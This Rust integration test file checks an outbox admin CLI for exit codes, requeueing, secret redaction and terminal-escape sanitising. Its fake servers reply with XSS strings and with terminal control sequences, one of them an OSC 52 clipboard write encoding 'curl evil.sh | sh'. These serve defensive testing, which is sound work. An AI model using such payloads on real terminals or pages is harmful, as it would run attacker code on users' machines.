//! `reqpool-outbox` run as a real child process on a real outbox file and
//! on a real Redis stream (a `redis-server` this test starts on a free
//! port), seeded by the library against an in-process server: what each
//! command prints, its exit code, and that a requeued job is delivered.

#[path = "../../tests/common/mod.rs"]
mod common;
mod kit;

use common::*;
use kit::{seed, server};
use reqpool::{JobId, Outbox, Pool};
use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use std::sync::atomic::Ordering;

/// Runs the command with `args`; its exit code, stdout and stderr.
fn cli(args: &[&str]) -> (i32, String, String) {
    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    bounded(LIMIT, move || {
        let out = Command::new(env!("CARGO_BIN_EXE_reqpool-outbox"))
            .args(&args)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    })
}

/// Every command on one store, `at` its arguments (`--file …` or
/// `--redis … --stream …`), seeded with `seed`'s jobs.
fn every_command(at: &[&str], ok: &[JobId], dead: &[JobId], server: &Server) {
    let with =
        |more: &[&str]| -> Vec<String> { at.iter().chain(more).map(|s| s.to_string()).collect() };
    let run = |more: &[&str]| {
        let args = with(more);
        cli(&args.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let (code, out, _) = run(&["stats"]);
    assert_eq!(
        (code, out.as_str()),
        (0, "pending 0\nin_flight 0\ndelivered 3\ndead 2\n")
    );

    let (code, out, _) = run(&["dead"]);
    assert_eq!(code, 0);
    assert_eq!(out.lines().count(), 2, "{out}");
    // Oldest dead first: the two died at about the same time, either order.
    let mut ids: Vec<i64> = out
        .lines()
        .map(|l| l.split('\t').next().unwrap().parse().unwrap())
        .collect();
    ids.sort();
    assert_eq!(ids, [dead[0].0, dead[1].0]);
    let first = out.lines().next().unwrap();
    assert!(
        first.contains(&server.url("/gone")) && first.contains("400"),
        "{first}"
    );
    let (_, out, _) = run(&["dead", "--limit", "1"]);
    assert_eq!(out.lines().count(), 1, "{out}");

    let (code, out, _) = run(&["show", &dead[1].0.to_string()]);
    assert_eq!(code, 0);
    assert!(
        out.contains("state dead") && out.contains("attempts 1"),
        "{out}"
    );
    let (code, out, _) = run(&["show", &ok[0].0.to_string()]);
    assert_eq!(code, 0);
    assert!(out.contains("state delivered\nstatus 200"), "{out}");
    let (code, _, err) = run(&["show", "999999"]);
    assert_eq!(code, 1, "{err}");

    // Only a dead job can be requeued.
    let (code, _, err) = run(&["requeue", &ok[0].0.to_string()]);
    assert_eq!(code, 1, "{err}");
    let (code, out, _) = run(&["requeue", &dead[0].0.to_string()]);
    assert_eq!(
        (code, out.as_str()),
        (0, format!("requeued {}\n", dead[0].0).as_str())
    );
    let (_, out, _) = run(&["stats"]);
    assert_eq!(out, "pending 1\nin_flight 0\ndelivered 3\ndead 1\n");
    let (code, out, _) = run(&["requeue", "--all-dead"]);
    assert_eq!((code, out.as_str()), (0, "requeued 1\n"));

    let (code, _, _) = run(&["forget", &ok[2].0.to_string()]);
    assert_eq!(code, 0);
    let (code, _, _) = run(&["forget", &ok[2].0.to_string()]);
    assert_eq!(code, 1);
    // (Redis counts deliveries; the file counts the delivered jobs it keeps.)
    let (_, out, _) = run(&["stats"]);
    assert!(
        out.starts_with("pending 2\nin_flight 0\ndelivered "),
        "{out}"
    );
    assert!(out.ends_with("dead 0\n"), "{out}");

    // A wrong command line is code 2, and says what is wrong.
    let (code, _, err) = run(&["show"]);
    assert_eq!(code, 2);
    assert!(err.contains("needs a job id"), "{err}");
}

#[test]
fn every_command_on_a_file_and_a_requeued_job_is_delivered() {
    let dir = TempDir::new("admin-file");
    let db = dir.file("calls.db");
    let (server, gone) = server();
    let pool = Pool::new(2);
    let (ok, dead) = {
        let outbox = Outbox::open(&db, &pool).unwrap();
        seed(&outbox, &pool, &server)
    };
    let path = db.to_str().unwrap();
    every_command(&["--file", path], &ok, &dead, &server);

    // While its program holds the file: code 3, and why.
    gone.store(200, Ordering::SeqCst);
    let outbox = Outbox::open(&db, &pool).unwrap();
    let (code, _, err) = cli(&["--file", path, "stats"]);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("one process's at a time"), "{err}");
    // The program delivers the two requeued jobs.
    assert_eq!(outbox.flush_timeout(LIMIT), 0);
    let s = outbox.stats().unwrap();
    assert_eq!((s.delivered, s.dead, s.pending), (4, 0, 0));
    drop(outbox);

    // No file, not an outbox: code 3, the file left as it was.
    let (code, _, err) = cli(&["--file", dir.file("none.db").to_str().unwrap(), "stats"]);
    assert_eq!(code, 3, "{err}");
    assert!(!dir.file("none.db").exists());
    let text = dir.file("notes.txt");
    std::fs::write(&text, "not a database\n").unwrap();
    let (code, _, err) = cli(&["--file", text.to_str().unwrap(), "dead"]);
    assert_eq!(code, 3, "{err}");
    assert_eq!(std::fs::read(&text).unwrap(), b"not a database\n");
}

#[test]
fn every_command_and_tail_on_redis_and_no_password_shown() {
    let Some(redis) = RedisServer::start() else {
        return;
    };
    let (server, gone) = server();
    let pool = Pool::new(2);
    let url = redis.url();
    let (ok, dead) = {
        let outbox = Outbox::redis(&url, "hooks", &pool).unwrap();
        seed(&outbox, &pool, &server)
    };
    every_command(&["--redis", &url, "--stream", "hooks"], &ok, &dead, &server);

    // tail follows what a delivering process does.
    let mut child = Command::new(env!("CARGO_BIN_EXE_reqpool-outbox"))
        .args([
            "--redis", &url, "--stream", "hooks", "tail", "--every", "20",
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    assert!(
        first.starts_with("pending 2 in_flight 0 delivered "),
        "{first}"
    );
    gone.store(410, Ordering::SeqCst);
    let outbox = Outbox::redis(&url, "hooks", &pool).unwrap();
    assert_eq!(outbox.flush_timeout(LIMIT), 0);
    let seen = bounded(LIMIT, move || {
        let mut seen = Vec::new();
        for line in lines {
            let line = line.unwrap();
            let last = line.starts_with("dead ");
            seen.push(line);
            if last {
                break;
            }
        }
        seen
    });
    let _ = child.kill();
    let _ = child.wait();
    // The two requeued jobs now answered 410: dead again, each listed.
    assert!(seen.iter().any(|l| l.contains("dead 2")), "{seen:?}");
    assert!(seen.last().unwrap().contains("410"), "{seen:?}");

    // A password in the URL is never printed, whatever fails.
    let secret = format!("redis://:hunter2@127.0.0.1:{}/", redis.port);
    let (code, out, err) = cli(&["--redis", &secret, "--stream", "hooks", "stats"]);
    assert_eq!(code, 3, "{err}");
    assert!(
        !out.contains("hunter2") && !err.contains("hunter2"),
        "{out}{err}"
    );
    let (code, _, err) = cli(&["--redis", &secret, "stats"]);
    assert_eq!(code, 2);
    assert!(!err.contains("hunter2"), "{err}");
}

/// A server whose `/echo` refuses with a 400 that echoes the request's
/// `Authorization` and query back among HTML and script, and whose
/// `/x<…>` path fails the same way.
fn echoing_server() -> Server {
    Server::with_handler(|req, _| {
        let auth = req
            .headers
            .get("authorization")
            .cloned()
            .unwrap_or_default();
        Reply::text(
            400,
            "text/html",
            &format!(
                "<script>alert('pwn')</script><img src=x onerror=alert(1)>\"' auth={auth} q={:?}",
                req.query
            ),
        )
    })
}

/// An outbox file with one dead job whose request carried, added at
/// delivery as a secret header (an outbox stores none),
/// `Authorization: Bearer auth-SECRET-1` and whose server echoed it
/// back; its id. (A hook's plain `header("Authorization")` is not hidden:
/// see `tests/hooks.rs`.)
fn seeded_with_secrets(db: &std::path::Path, server: &Server) -> i64 {
    let pool = Pool::builder()
        .workers(1)
        .before_attempt(|a: &mut reqpool::Attempt<'_>| {
            a.secret_header("Authorization", "Bearer auth-SECRET-1");
            Ok(())
        })
        .build()
        .unwrap();
    let outbox = Outbox::open(db, &pool).unwrap();
    let id = outbox
        .enqueue(
            pool.post(&format!(
                "{}?page=<b>1</b>",
                server.url("/echo/<i>x</i>\"'")
            ))
            .json_body(&serde_json::json!({"i": 1})),
        )
        .unwrap();
    assert_eq!(outbox.flush_timeout(LIMIT), 0);
    assert_eq!(outbox.stats().unwrap().dead, 1);
    id.0
}

#[test]
fn show_and_dead_print_no_secret_a_server_echoed() {
    let dir = TempDir::new("admin-secrets");
    let db = dir.file("calls.db");
    let server = echoing_server();
    // URL credentials and a secret query are refused at enqueue.
    {
        let pool = Pool::new(1);
        let outbox = Outbox::open(&db, &pool).unwrap();
        let base = server.url("/echo");
        let hostport = base
            .trim_start_matches("http://")
            .split('/')
            .next()
            .unwrap();
        for url in [
            format!("http://user:pw-SECRET-2@{hostport}/echo"),
            format!("{base}?token=tok-SECRET-3"),
        ] {
            let e = outbox.enqueue(pool.post(&url).body("{}")).unwrap_err();
            let shown = format!("{e} {e:?}");
            assert!(!shown.contains("SECRET"), "{shown}");
        }
    }
    let id = seeded_with_secrets(&db, &server);
    let path = db.to_str().unwrap();
    for args in [
        vec!["--file", path, "dead"],
        vec!["--file", path, "show", &id.to_string()],
    ] {
        let (code, out, err) = cli(&args);
        assert_eq!(code, 0, "{args:?}: {err}");
        assert!(out.contains(&id.to_string()), "{args:?}: {out}");
        assert!(
            !out.contains("SECRET") && !err.contains("SECRET"),
            "{args:?}: {out}{err}"
        );
    }
    // Nor is it in the file.
    let bytes = std::fs::read(&db).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert!(!text.contains("auth-SECRET"), "the secret is in the file");
}

#[test]
fn stores_that_cannot_be_used_are_code_3_and_left_as_they_were() {
    let dir = TempDir::new("admin-codes");
    // An empty file: SQLite would take it for a new database.
    let empty = dir.file("empty.db");
    std::fs::write(&empty, b"").unwrap();
    let (code, _, err) = cli(&["--file", empty.to_str().unwrap(), "stats"]);
    assert_eq!(code, 3, "an empty file: {err}");
    assert_eq!(
        std::fs::read(&empty).unwrap(),
        b"",
        "the empty file was written"
    );
    // Another program's SQLite database.
    let foreign = dir.file("app.db");
    let made = std::process::Command::new("python3")
        .args([
            "-c",
            "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('create table users(name text)'); c.execute(\"insert into users values('ann')\"); c.commit()",
            foreign.to_str().unwrap(),
        ])
        .status()
        .unwrap();
    assert!(made.success());
    let before = std::fs::read(&foreign).unwrap();
    for cmd in ["stats", "dead"] {
        let (code, _, err) = cli(&["--file", foreign.to_str().unwrap(), cmd]);
        assert_eq!(code, 3, "another program's database, {cmd}: {err}");
    }
    assert_eq!(
        std::fs::read(&foreign).unwrap(),
        before,
        "the database was written"
    );
    // A Redis where nothing listens, with a password: code 3, in bounded
    // time, the password not shown.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let url = format!("redis://:pw-SECRET-4@127.0.0.1:{port}/");
    for cmd in ["stats", "dead"] {
        let (code, out, err) = cli(&["--redis", &url, "--stream", "s", cmd]);
        assert_eq!(code, 3, "{cmd}: {err}");
        assert!(
            !out.contains("SECRET") && !err.contains("SECRET"),
            "{out}{err}"
        );
    }
}

#[test]
fn a_servers_terminal_escapes_are_not_printed_raw() {
    // A dead job whose server answered with terminal control sequences
    // (a colour, a window title, OSC 52 that writes the clipboard, a
    // backspace run that hides text): `dead`, `show` and `tail` print
    // them escaped, never as control characters.
    let dir = TempDir::new("admin-escapes");
    let db = dir.file("calls.db");
    let server = Server::with_handler(|_, _| {
        Reply::text(
            400,
            "text/plain",
            "\u{1b}[31mRED\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}hidden\u{8}\u{8}\u{8}\u{9b}2J",
        )
    });
    let id = {
        let pool = Pool::new(1);
        let outbox = Outbox::open(&db, &pool).unwrap();
        let id = outbox
            .enqueue(pool.post(&server.url("/esc")).body("{}"))
            .unwrap();
        assert_eq!(outbox.flush_timeout(LIMIT), 0);
        id.0
    };
    let path = db.to_str().unwrap();
    for args in [
        vec!["--file", path, "dead"],
        vec!["--file", path, "show", &id.to_string()],
    ] {
        let (code, out, err) = cli(&args);
        assert_eq!(code, 0, "{err}");
        let raw: Vec<char> = out
            .chars()
            .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
            .collect();
        assert!(raw.is_empty(), "{args:?} printed {raw:?}: {out:?}");
    }
}

#[test]
fn a_redis_key_that_is_not_an_outbox_is_code_3_and_left_as_it_was() {
    let Some(redis) = RedisServer::start() else {
        return;
    };
    let port = redis.port.to_string();
    let rcli = |args: &[&str]| -> String {
        let out = Command::new("redis-cli")
            .args(["-p", &port])
            .args(args)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    // Another program's keys under the names an outbox would use (outbox
    // `name` keeps its stream at `{name}`): a string, a list, a stream of
    // other entries.
    rcli(&["SET", "{notes}", "keep me"]);
    rcli(&["RPUSH", "{tasks}", "a", "b"]);
    rcli(&["XADD", "{events}", "*", "user", "ann"]);
    let url = redis.url();
    for stream in ["notes", "tasks", "events"] {
        let key = format!("{{{stream}}}");
        let before = rcli(&["DUMP", &key]);
        for cmd in ["stats", "dead"] {
            let (code, out, err) = cli(&["--redis", &url, "--stream", stream, cmd]);
            let groups = rcli(&["XINFO", "GROUPS", &key]);
            assert_eq!(
                code, 3,
                "{stream} {cmd}: {out}{err}; its groups now: {groups:?}"
            );
        }
        assert_eq!(rcli(&["DUMP", &key]), before, "{stream} was changed");
    }
}
